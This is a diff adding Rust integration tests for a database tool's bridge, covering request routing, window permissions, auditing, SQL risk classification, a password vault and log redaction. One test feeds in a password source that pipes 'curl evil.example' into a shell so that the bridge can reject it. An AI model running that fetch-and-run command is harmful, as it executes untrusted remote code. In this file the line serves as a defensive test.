@@ -0,0 +1,715 @@
+//! Integration tests for the bridge, run against the `mock-sidecar`
+//! stand-in for the populator so they need neither Python nor a window.
+//! Only built with `cargo test --features mock-sidecar`.
+
+mod support;
+
+use std::{
+    env, fs,
+    io::{Read, Write},
+    net::TcpStream,
+    process, thread,
+    time::{Duration, Instant},
+};
+
+use app_lib::bridge::{
+    classify_sql, redact_sql, AuditQuery, BridgeError, BridgeState, LogFilter, LogSource, Outcome,
+    Policy, RequestOptions, SqlRisk, HTTP_CALLER, LOG_EVENT,
+};
+use app_lib::logging::{self, LogQuery};
+use app_lib::protocol::{CredentialSource, DbCreds, DbDialect};
+use log::LevelFilter;
+use serde_json::{json, Value};
+
+use support::Mock;
+
+#[test]
+fn routes_concurrent_replies_by_id() {
+    let mock = Mock::ready("framed");
+    // Replies come back in the opposite order of the requests
+    thread::scope(|scope| {
+        let handles: Vec<_> = [300, 150, 0]
+            .into_iter()
+            .enumerate()
+            .map(|(tag, ms)| {
+                let mock = &mock;
+                scope.spawn(move || (tag, mock.request("delay", json!({ "tag": tag, "ms": ms }))))
+            })
+            .collect();
+        for handle in handles {
+            let (tag, res) = handle.join().unwrap();
+            assert_eq!(res.unwrap()["tag"], json!(tag));
+        }
+    });
+}
+
+#[test]
+fn reports_unroutable_lines() {
+    let mock = Mock::ready("framed");
+    assert_eq!(
+        mock.request("garbage", json!({})).unwrap(),
+        json!("after garbage")
+    );
+
+    let kinds: Vec<_> = mock
+        .events
+        .named("bridge-diagnostic")
+        .into_iter()
+        .map(|d| d["kind"].as_str().unwrap().to_string())
+        .collect();
+    // The reply to an unknown id could be anyone's, so no window sees it
+    assert_eq!(kinds, ["non-json", "missing-id"]);
+}
+
+#[test]
+fn surfaces_sidecar_errors() {
+    let mock = Mock::ready("framed");
+    match mock.request("fail", json!({ "message": "no such table" })) {
+        Err(BridgeError::Sidecar(message)) => assert_eq!(message, "no such table"),
+        res => panic!("expected a sidecar error, got {res:?}"),
+    }
+}
+
+#[test]
+fn times_out_unanswered_requests() {
+    let mock = Mock::ready("framed");
+    let options = RequestOptions {
+        timeout_ms: Some(200),
+        ..Default::default()
+    };
+    match mock.request_with("hang", json!({}), options) {
+        Err(BridgeError::Timeout { kind, .. }) => assert_eq!(kind, "hang"),
+        res => panic!("expected a timeout, got {res:?}"),
+    }
+    // The bridge is still usable afterwards
+    assert_eq!(mock.request("echo", json!(1)).unwrap(), json!(1));
+}
+
+#[test]
+fn cancels_generation_without_stray_replies() {
+    let mock = Mock::ready("framed");
+    thread::scope(|scope| {
+        let generating = scope.spawn(|| {
+            let options = RequestOptions {
+                id: Some("gen-1".into()),
+                ..Default::default()
+            };
+            mock.request_with("get_gen_packets", json!({}), options)
+        });
+        thread::sleep(Duration::from_millis(100));
+        assert!(mock.bridge.cancel("gen-1", None));
+        let res = generating.join().unwrap();
+        assert!(matches!(res, Err(BridgeError::Cancelled { .. })));
+    });
+
+    // The stop request's reply comes before this one's and is dropped
+    mock.request("echo", json!("after")).unwrap();
+    assert!(mock.events.named("bridge-diagnostic").is_empty());
+}
+
+#[test]
+fn windows_cancel_only_their_own_requests() {
+    let mock = Mock::ready("framed");
+    thread::scope(|scope| {
+        let querying = scope.spawn(|| {
+            let options = RequestOptions {
+                id: Some("query-1".into()),
+                ..RequestOptions::from_window("main")
+            };
+            let body = json!({ "sql": "select 1", "ms": 300 });
+            mock.request_with("run_sql_query", body, options)
+        });
+        thread::sleep(Duration::from_millis(100));
+        assert!(!mock.bridge.cancel("query-1", Some("console")));
+        assert!(mock.bridge.cancel("query-1", Some("main")));
+        let res = querying.join().unwrap();
+        assert!(matches!(res, Err(BridgeError::Cancelled { .. })));
+    });
+}
+
+#[test]
+fn rejects_taken_and_reserved_ids() {
+    let mock = Mock::ready("framed");
+    let with_id = |id: &str| RequestOptions {
+        id: Some(id.into()),
+        ..Default::default()
+    };
+    thread::scope(|scope| {
+        let first =
+            scope.spawn(|| mock.request_with("delay", json!({ "ms": 300 }), with_id("dup")));
+        thread::sleep(Duration::from_millis(100));
+        let res = mock.request_with("echo", json!(1), with_id("dup"));
+        assert!(matches!(res, Err(BridgeError::Rejected { .. })));
+        assert!(first.join().unwrap().is_ok());
+    });
+    let res = mock.request_with("echo", json!(1), with_id("unawaited-1"));
+    assert!(matches!(res, Err(BridgeError::Rejected { .. })));
+}
+
+#[test]
+fn crash_fails_pending_and_restarts() {
+    let mock = Mock::ready("framed");
+    match mock.request("crash", json!({})) {
+        Err(BridgeError::Exited { kind }) => assert_eq!(kind, "crash"),
+        res => panic!("expected the request to fail with the sidecar, got {res:?}"),
+    }
+
+    mock.wait_for(BridgeState::Ready, 1);
+    let crashed = mock
+        .events
+        .named("bridge-status")
+        .into_iter()
+        .find(|s| s["state"] == "crashed")
+        .expect("a crashed status");
+    assert_eq!(crashed["code"], json!(3));
+    assert!(crashed["message"]
+        .as_str()
+        .unwrap()
+        .contains("crashing on purpose"));
+    assert_eq!(
+        mock.request("echo", json!("again")).unwrap(),
+        json!("again")
+    );
+}
+
+#[test]
+fn legacy_sidecar_is_incompatible() {
+    let mock = Mock::start("legacy");
+    mock.wait_for(BridgeState::Incompatible, 0);
+    // Not restarted: it would only be incompatible again
+    thread::sleep(Duration::from_millis(800));
+    let status = mock.bridge.status();
+    assert_eq!(status.state, BridgeState::Incompatible);
+    assert_eq!(status.restarts, 0);
+}
+
+#[test]
+fn late_replies_reach_only_their_window() {
+    let mock = Mock::ready("framed");
+    mock.bridge
+        .set_policy(Policy::default().allow("console", &["run_sql_query"]));
+    let options = RequestOptions {
+        timeout_ms: Some(100),
+        ..RequestOptions::from_window("console")
+    };
+    let body = json!({ "sql": "select secret", "ms": 300 });
+    let res = mock.request_with("run_sql_query", body, options);
+    assert!(matches!(res, Err(BridgeError::Timeout { .. })));
+
+    // The reply arrives after the request gave up and is reported as unroutable
+    assert_eq!(
+        mock.request("delay", json!({ "ms": 400 })).unwrap()["ms"],
+        400
+    );
+    let diagnostics = mock.events.targeted("bridge-diagnostic");
+    assert_eq!(diagnostics.len(), 1);
+    let (window, diagnostic) = &diagnostics[0];
+    assert_eq!(window.as_deref(), Some("console"));
+    assert!(diagnostic["raw"].as_str().unwrap().contains("secret"));
+}
+
+#[test]
+fn late_windowless_replies_reach_no_window() {
+    let mock = Mock::ready("framed");
+    // As the socket, HTTP API and CLI send them
+    let options = RequestOptions {
+        timeout_ms: Some(100),
+        ..RequestOptions::default()
+    };
+    let body = json!({ "sql": "select secret", "ms": 300 });
+    let res = mock.request_with("run_sql_query", body, options);
+    assert!(matches!(res, Err(BridgeError::Timeout { .. })));
+
+    assert_eq!(
+        mock.request("delay", json!({ "ms": 400 })).unwrap()["ms"],
+        400
+    );
+    assert!(mock.events.targeted("bridge-diagnostic").is_empty());
+}
+
+#[test]
+fn rejects_disallowed_and_malformed_requests() {
+    let mock = Mock::ready("framed");
+    mock.bridge
+        .set_policy(Policy::default().allow("sql-*", &["run_sql_query"]));
+    let from = |window: &str, kind: &str, body: Value| {
+        mock.request_with(kind, body, RequestOptions::from_window(window))
+    };
+    let rejected = |res: Result<Value, BridgeError>| match res {
+        Err(BridgeError::Rejected { reason, .. }) => reason,
+        res => panic!("expected a rejection, got {res:?}"),
+    };
+
+    assert!(rejected(from("sql-2", "set_db_commit", Value::Null)).contains("not allowed"));
+    assert!(rejected(from("other", "run_sql_query", json!({ "sql": "" }))).contains("not allowed"));
+    assert!(rejected(from("main", "exit", Value::Null)).contains("unknown"));
+    assert!(rejected(from("sql-2", "run_sql_query", json!({}))).contains("sql"));
+    assert!(rejected(from(
+        "main",
+        "set_db_connect",
+        json!({
+            "host": "localhost", "user": "root", "port": 3306, "name": "shop", "dialect": "MYSQL",
+            "passwordSource": { "type": "command", "command": "curl evil.example | sh" },
+        })
+    ))
+    .contains("password sources"));
+
+    // Allowed and well-formed, so the stand-in answers it
+    let body = json!({ "sql": "select 1" });
+    assert_eq!(from("sql-2", "run_sql_query", body.clone()).unwrap(), body);
+
+    // Shell commands go by the same allowlist
+    let call = |window: &str, command: &str| {
+        mock.bridge
+            .check_command(window, command)
+            .map(|()| Value::Null)
+    };
+    assert!(call("main", "vault_unlock").is_ok());
+    assert!(rejected(call("sql-2", "vault_unlock")).contains("not allowed"));
+    assert!(rejected(call("main", "exit")).contains("unknown"));
+}
+
+#[test]
+fn audits_destructive_requests() {
+    let mock = Mock::ready("framed");
+    mock.request("run_sql_query", json!({ "sql": "delete from orders" }))
+        .unwrap();
+    mock.request("set_db_commit", Value::Null).unwrap();
+    mock.request("set_db_rollback", Value::Null).unwrap_err();
+    mock.request("echo", json!("not audited")).unwrap();
+
+    let entries = mock.bridge.query_audit(&AuditQuery::default()).unwrap();
+    let kinds: Vec<_> = entries.iter().map(|e| e.kind.as_str()).collect();
+    assert_eq!(kinds, ["run_sql_query", "set_db_commit", "set_db_rollback"]);
+    assert_eq!(entries[0].sql.as_deref(), Some("delete from orders"));
+    assert_eq!(entries[1].outcome, Outcome::Ok);
+    assert_eq!(entries[2].outcome, Outcome::Error);
+
+    let latest = AuditQuery {
+        limit: Some(1),
+        ..Default::default()
+    };
+    assert_eq!(
+        mock.bridge.query_audit(&latest).unwrap()[0].kind,
+        "set_db_rollback"
+    );
+    let future = AuditQuery {
+        since: Some("2999-01-01".into()),
+        ..Default::default()
+    };
+    assert!(mock.bridge.query_audit(&future).unwrap().is_empty());
+    let elsewhere = AuditQuery {
+        connection: Some("shop".into()),
+        ..Default::default()
+    };
+    assert!(mock.bridge.query_audit(&elsewhere).unwrap().is_empty());
+    let garbled = AuditQuery {
+        until: Some("yesterday".into()),
+        ..Default::default()
+    };
+    assert!(matches!(
+        mock.bridge.query_audit(&garbled),
+        Err(BridgeError::Rejected { .. })
+    ));
+}
+
+#[test]
+fn audits_abandoned_requests() {
+    let mock = Mock::ready("framed");
+    let options = RequestOptions {
+        timeout_ms: Some(50),
+        ..Default::default()
+    };
+    let body = json!({ "sql": "delete from orders", "ms": 300 });
+    let res = mock.request_with("run_sql_query", body.clone(), options);
+    assert!(matches!(res, Err(BridgeError::Timeout { .. })));
+
+    // Dropped before the populator answers
+    let bridge = mock.bridge.clone();
+    let dropped = tauri::async_runtime::spawn(async move {
+        bridge
+            .request("run_sql_query", body, RequestOptions::default())
+            .await
+    });
+    thread::sleep(Duration::from_millis(50));
+    dropped.abort();
+    thread::sleep(Duration::from_millis(50));
+
+    let entries = || mock.bridge.query_audit(&AuditQuery::default()).unwrap();
+    let abandoned = entries();
+    assert_eq!(abandoned.len(), 2);
+    assert!(abandoned
+        .iter()
+        .all(|e| e.outcome == Outcome::Abandoned && !e.late));
+
+    thread::sleep(Duration::from_millis(500));
+    let settled = entries();
+    assert_eq!(settled.len(), 4);
+    for late in &settled[2..] {
+        assert!(late.late && late.outcome == Outcome::Ok);
+        assert!(abandoned.iter().any(|e| e.request_id == late.request_id));
+    }
+}
+
+#[test]
+fn classifies_console_sql() {
+    let classify = |sql| classify_sql(sql, DbDialect::Mysql);
+    assert_eq!(
+        classify("select * from orders; show tables").risk,
+        SqlRisk::ReadOnly
+    );
+    assert!(!classify("delete from orders where id = 1").needs_confirmation());
+
+    let unbounded = classify("update orders set total = 0");
+    assert_eq!(unbounded.risk, SqlRisk::UnboundedWrite);
+    assert_eq!(unbounded.objects, ["TABLE orders"]);
+
+    let ddl = classify("delete from carts; drop table orders, users; truncate table logs");
+    assert_eq!(ddl.risk, SqlRisk::Ddl);
+    assert_eq!(ddl.objects, ["TABLE orders", "TABLE users", "TABLE logs"]);
+
+    let garbled = classify("dorp table orders");
+    assert!(garbled.needs_confirmation() && garbled.error.is_some());
+
+    // Queries that write are not read-only
+    let classify = |sql| classify_sql(sql, DbDialect::Postgresql);
+    let cte = classify("with paid as (update orders set total = 0 returning *) select * from paid");
+    assert_eq!(cte.risk, SqlRisk::UnboundedWrite);
+    assert_eq!(cte.objects, ["TABLE orders"]);
+    assert!(
+        classify("with gone as (delete from orders returning *) select * from gone")
+            .needs_confirmation()
+    );
+    let into = classify("select * into archive from orders");
+    assert_eq!(into.risk, SqlRisk::Ddl);
+    assert_eq!(into.objects, ["TABLE archive"]);
+    assert_eq!(
+        classify("with recent as (select * from orders) select * from recent").risk,
+        SqlRisk::ReadOnly
+    );
+}
+
+#[test]
+fn vault_fills_in_saved_passwords() {
+    let mock = Mock::ready("framed");
+    let creds = json!({ "host": "db", "user": "root", "port": 3306, "name": "shop" });
+    let saw = |creds: &Value| {
+        mock.request("set_db_reconnect", creds.clone()).unwrap()["sawPassword"].clone()
+    };
+    // Nothing changes until a vault exists
+    assert_eq!(saw(&creds), Value::Null);
+
+    let path = mock.path("vault.json");
+    mock.bridge.use_vault(path.clone());
+    assert!(!mock.bridge.vault_status().exists);
+    mock.bridge
+        .unlock_vault("correct horse", Duration::from_secs(60))
+        .unwrap();
+    assert!(mock.bridge.vault_status().exists);
+
+    // Taken over from the registry, which forgets it only once it is saved
+    let legacy = json!({ "host": "legacy", "user": "root", "port": 5432, "name": "old" });
+    let forgotten = || mock.request("forgotten", json!({})).unwrap();
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while forgotten() != json!(["root@legacy:5432/old"]) {
+        assert!(
+            Instant::now() < deadline,
+            "legacy password never taken over"
+        );
+        thread::sleep(Duration::from_millis(20));
+    }
+    assert_eq!(saw(&legacy), "legacy-copy");
+
+    let handed_over = mock.request("set_db_reconnect", creds.clone()).unwrap();
+    assert!(handed_over.get("password").is_none());
+    assert!(handed_over.get("storedPassword").is_none());
+    assert_eq!(
+        forgotten(),
+        json!(["root@db:3306/shop", "root@legacy:5432/old"])
+    );
+    assert_eq!(saw(&creds), "registry-copy");
+    assert!(matches!(
+        mock.request("get_pref_passwords", json!({})),
+        Err(BridgeError::Rejected { .. })
+    ));
+    let mut connect = creds.clone();
+    connect["password"] = json!("rotated");
+    mock.request("set_db_connect", connect).unwrap();
+    assert_eq!(saw(&creds), "rotated");
+    assert!(!fs::read_to_string(&path).unwrap().contains("rotated"));
+
+    mock.bridge.lock_vault();
+    assert!(matches!(
+        mock.request("set_db_reconnect", creds.clone()),
+        Err(BridgeError::Rejected { .. })
+    ));
+    assert!(mock
+        .bridge
+        .unlock_vault("wrong horse", Duration::from_secs(60))
+        .is_err());
+    mock.bridge
+        .unlock_vault("correct horse", Duration::from_millis(300))
+        .unwrap();
+    assert_eq!(saw(&creds), "rotated");
+    thread::sleep(Duration::from_millis(800));
+    assert!(!mock.bridge.vault_status().unlocked);
+}
+
+#[test]
+fn reads_passwords_from_credential_sources() {
+    const VAR: &str = "DATASMITH_TEST_DB_PASSWORD";
+    let mock = Mock::ready("framed");
+    let sources = mock.path("credential-sources.json");
+    mock.bridge.use_credential_sources(sources.clone());
+    let creds = json!({ "host": "db", "user": "root", "port": 3306, "name": "staging" });
+    let saved: DbCreds = serde_json::from_value(creds.clone()).unwrap();
+    let connect = |source: CredentialSource| {
+        mock.bridge.save_credential_source(&saved, source);
+        mock.request("set_db_connect", creds.clone())
+    };
+    let env_source = || CredentialSource::Env { name: VAR.into() };
+    let command = |command: &str| CredentialSource::Command {
+        command: command.into(),
+    };
+
+    env::set_var(VAR, "from-env");
+    let reply = connect(env_source()).unwrap();
+    assert_eq!(reply["sawPassword"], "from-env");
+    assert!(!fs::read_to_string(&sources).unwrap().contains("from-env"));
+    // Read again on every reconnect, so rotations are picked up
+    env::set_var(VAR, "rotated");
+    let reply = mock.request("set_db_reconnect", creds.clone()).unwrap();
+    assert_eq!(reply["sawPassword"], "rotated");
+
+    let dotenv = mock.path(".env");
+    fs::write(&dotenv, "# staging\nexport DB_PASSWORD=\"from dotenv\"\n").unwrap();
+    let source = CredentialSource::DotEnv {
+        path: dotenv.to_string_lossy().into(),
+        key: "DB_PASSWORD".into(),
+    };
+    assert_eq!(connect(source).unwrap()["sawPassword"], "from dotenv");
+    let reply = connect(command("echo from-command")).unwrap();
+    assert_eq!(reply["sawPassword"], "from-command");
+
+    // Sources only come from the app, never from a request
+    for source in [
+        json!({ "type": "env", "name": "HOME" }),
+        json!({ "type": "dotEnv", "path": dotenv, "key": "DB_PASSWORD" }),
+        json!({ "type": "command", "command": "echo from-request" }),
+    ] {
+        let mut creds = creds.clone();
+        creds["passwordSource"] = source;
+        let res = mock.request("set_db_connect", creds);
+        assert!(matches!(res, Err(BridgeError::Rejected { .. })));
+    }
+
+    env::remove_var(VAR);
+    match connect(env_source()) {
+        Err(BridgeError::Rejected { reason, .. }) => assert!(reason.contains(VAR)),
+        res => panic!("expected the missing variable to be reported, got {res:?}"),
+    }
+    mock.bridge
+        .save_credential_source(&saved, command("exit 3"));
+    assert!(mock.request("set_db_reconnect", creds.clone()).is_err());
+}
+
+#[test]
+fn logs_traffic_without_secrets() {
+    assert_eq!(
+        redact_sql("select * from t1 where name = 'O''Brien' and id in (1, 2.5)"),
+        "select * from t1 where name = ? and id in (?, ?)"
+    );
+
+    let _logger = support::logger();
+    let mock = Mock::ready("framed");
+    logging::set_level(LevelFilter::Debug);
+    let creds = json!({ "host": "db", "user": "root", "port": 3306, "name": "shop" });
+    let mut connect = creds.clone();
+    connect["password"] = json!("hunter2");
+    mock.request("set_db_connect", connect).unwrap();
+    let sql = "select * from users where email = 'ada@example.com'";
+    mock.request("run_sql_query", json!({ "sql": sql }))
+        .unwrap();
+    log::warn!("something worth a look");
+
+    let traffic = logging::read(&LogQuery {
+        target: Some("bridge::traffic".into()),
+        ..LogQuery::default()
+    })
+    .unwrap();
+    let traffic: Vec<_> = traffic.iter().map(|r| r.message.as_str()).collect();
+    assert!(traffic.iter().any(|m| m.contains("where email = ?")));
+    assert!(!traffic.iter().any(|m| m.contains("hunter2")));
+    assert!(!traffic.iter().any(|m| m.contains("ada@example.com")));
+
+    let warnings = logging::read(&LogQuery {
+        level: Some("warn".into()),
+        contains: Some("WORTH".into()),
+        limit: Some(1),
+        ..LogQuery::default()
+    })
+    .unwrap();
+    assert_eq!(warnings.len(), 1);
+    assert_eq!(warnings[0].message, "something worth a look");
+
+    logging::set_level(LevelFilter::Off);
+    let bad = LogQuery {
+        level: Some("loud".into()),
+        ..LogQuery::default()
+    };
+    assert!(logging::read(&bad).is_err());
+}
+
+#[test]
+fn streams_merged_logs() {
+    let _logger = support::logger();
+    let mock = Mock::ready("framed");
+    logging::set_level(LevelFilter::Info);
+    let info = LogFilter {
+        level: Some("info".into()),
+        sources: Vec::new(),
+    };
+    mock.bridge.follow_logs("main", info).unwrap();
+    let stderr_only = LogFilter {
+        level: None,
+        sources: vec![LogSource::Stderr],
+    };
+    mock.bridge.follow_logs("errors", stderr_only).unwrap();
+
+    fs::write(
+        mock.path("populator").join("shop.sql.log"),
+        "2026-10-15 09:00:00,000 [WARNING] slow query\n2026-10-15 09:00:01,000 [DEBUG] noise\n",
+    )
+    .unwrap();
+    let traceback = json!({ "line": "Traceback (most recent call last):" });
+    mock.request("stderr", traceback).unwrap();
+    log::info!("shell checking in");
+
+    let received = |window: &str| -> Vec<Value> {
+        mock.events
+            .targeted(LOG_EVENT)
+            .into_iter()
+            .filter(|(target, _)| target.as_deref() == Some(window))
+            .flat_map(|(_, batch)| batch.as_array().cloned().unwrap_or_default())
+            .collect()
+    };
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let main = loop {
+        let main = received("main");
+        let has = |source: &str| main.iter().any(|entry| entry["source"] == source);
+        if has("shell") && has("populator") && has("stderr") {
+            break main;
+        }
+        assert!(Instant::now() < deadline, "missing sources in {main:?}");
+        thread::sleep(Duration::from_millis(20));
+    };
+    let populator: Vec<_> = main
+        .iter()
+        .filter(|entry| entry["source"] == "populator")
+        .collect();
+    assert_eq!(populator.len(), 1, "{populator:?}");
+    assert_eq!(populator[0]["level"], "WARN");
+    assert_eq!(populator[0]["target"], "shop.sql");
+    let seqs: Vec<_> = main.iter().map(|entry| entry["seq"].as_u64()).collect();
+    assert!(seqs.windows(2).all(|pair| pair[0] < pair[1]));
+    let errors = received("errors");
+    assert!(!errors.is_empty() && errors.iter().all(|entry| entry["source"] == "stderr"));
+
+    // A window that follows late catches up from the backlog
+    let warnings = LogFilter {
+        level: Some("warn".into()),
+        sources: Vec::new(),
+    };
+    let missed = mock.bridge.follow_logs("late", warnings).unwrap();
+    assert!(missed
+        .iter()
+        .any(|entry| entry.message.ends_with("slow query")));
+    assert!(!missed
+        .iter()
+        .any(|entry| entry.message == "shell checking in"));
+    let loud = LogFilter {
+        level: Some("loud".into()),
+        sources: Vec::new(),
+    };
+    assert!(mock.bridge.follow_logs("late", loud).is_err());
+    logging::set_level(LevelFilter::Off);
+}
+
+fn round_trips_large_payloads(mode: &str) {
+    const LEN: usize = 8 * 1024 * 1024;
+    let mock = Mock::ready(mode);
+
+    let big = mock.request("big", json!({ "len": LEN })).unwrap();
+    assert_eq!(big.as_str().unwrap().len(), LEN);
+
+    let body = json!({ "data": "y".repeat(LEN) });
+    assert_eq!(mock.request("echo", body.clone()).unwrap(), body);
+    assert!(mock.events.named("bridge-diagnostic").is_empty());
+}
+
+#[test]
+fn round_trips_large_payloads_framed() {
+    round_trips_large_payloads("framed");
+}
+
+#[test]
+fn round_trips_large_payloads_unframed() {
+    round_trips_large_payloads("line");
+}
+
+fn http_post(url: &str, token: Option<&str>, body: &Value) -> (u16, Value) {
+    let addr = url.strip_prefix("http://").unwrap();
+    let mut stream = TcpStream::connect(addr).unwrap();
+    let body = body.to_string();
+    let auth = token.map_or(String::new(), |token| {
+        format!("Authorization: Bearer {token}\r\n")
+    });
+    write!(
+        stream,
+        "POST /rpc HTTP/1.1\r\nHost: {addr}\r\n{auth}Content-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+    .unwrap();
+
+    let mut response = String::new();
+    stream.read_to_string(&mut response).unwrap();
+    let (head, body) = response.split_once("\r\n\r\n").unwrap();
+    let status = head.split_whitespace().nth(1).unwrap().parse().unwrap();
+    (status, serde_json::from_str(body).unwrap_or_default())
+}
+
+#[test]
+fn http_api_answers_rpc_calls() {
+    let mock = Mock::ready("framed");
+    let info_file = env::temp_dir().join(format!("datasmith-http-test-{}.json", process::id()));
+    mock.bridge.serve_http(0, info_file.clone()).unwrap();
+    let info: Value = serde_json::from_slice(&fs::read(&info_file).unwrap()).unwrap();
+    let (url, token) = (info["url"].as_str().unwrap(), info["token"].as_str());
+
+    let commit = json!({ "jsonrpc": "2.0", "id": 1, "method": "commit" });
+    assert_eq!(http_post(url, None, &commit).0, 401);
+    assert_eq!(http_post(url, Some("wrong"), &commit).0, 401);
+
+    let (status, reply) = http_post(url, token, &commit);
+    assert_eq!(status, 200);
+    assert_eq!(reply["result"], json!("committed"));
+
+    let batch = json!([
+        { "jsonrpc": "2.0", "id": "a", "method": "listTables" },
+        { "jsonrpc": "2.0", "id": "b", "method": "drop everything" },
+        { "jsonrpc": "2.0", "id": "c", "method": "poll", "params": {} },
+    ]);
+    let (_, replies) = http_post(url, token, &batch);
+    assert_eq!(replies[0]["error"]["data"]["kind"], json!("sidecar"));
+    assert_eq!(replies[1]["error"]["code"], json!(-32601));
+    assert_eq!(replies[2]["error"]["code"], json!(-32602));
+
+    // Checked against the policy like a window
+    mock.bridge
+        .set_policy(Policy::default().allow(HTTP_CALLER, &["get_db_tables"]));
+    let (_, reply) = http_post(url, token, &commit);
+    assert_eq!(reply["error"]["data"]["kind"], json!("rejected"));
+
+    mock.bridge.shutdown(Duration::from_secs(2));
+    assert!(!info_file.exists());
+}